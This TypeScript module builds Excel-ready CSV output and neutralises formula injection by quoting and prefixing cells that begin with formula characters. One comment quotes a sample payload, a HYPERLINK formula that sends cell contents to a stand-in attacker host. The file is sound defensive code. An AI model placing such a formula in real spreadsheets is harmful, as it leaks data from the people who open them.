import { withoutForbiddenCharacters } from './document-text';

/*
 * CSV as Excel opens it: UTF-8 with a byte order mark (or Norwegian letters come out garbled),
 * CRLF line ends, and every field that holds a separator, a quote or a line break quoted with
 * its quotes doubled (RFC 4180).
 *
 * Formula injection (OWASP "CSV Injection"): a cell that begins with `=`, `+`, `-`, `@`, a tab
 * or a carriage return is read by Excel and LibreOffice as a formula, so
 * `=HYPERLINK("https://evil.example/?"&A1,"Klikk")` in an answer would run on the
 * coordinator's machine. Such a cell gets a leading single quote and is always quoted. This
 * holds for every cell, negative numbers too: the product writes no negative numbers (counts,
 * municipality and question numbers are never below zero), so a "-5" can only be someone's
 * text, and text it stays. Leading spaces and the full-width forms of the four signs are
 * treated the same, as some spreadsheets skip or fold them before looking for a formula.
 */
const BOM = '\uFEFF';
const FORMULA_START = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

export const isFormulaLike = (value: string): boolean => FORMULA_START.test(value);

export function csvField(raw: string): string {
  const value = withoutForbiddenCharacters(raw);
  if (isFormulaLike(value)) return `"'${value.replace(/"/g, '""')}"`;
  return /[",;\r\n]/.test(value) || /^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

export function toCsv(header: readonly string[], rows: readonly (readonly string[])[], separator = ','): Buffer {
  const lines = [header, ...rows].map((r) => r.map(csvField).join(separator));
  return Buffer.from(BOM + lines.join('\r\n') + '\r\n', 'utf8');
}
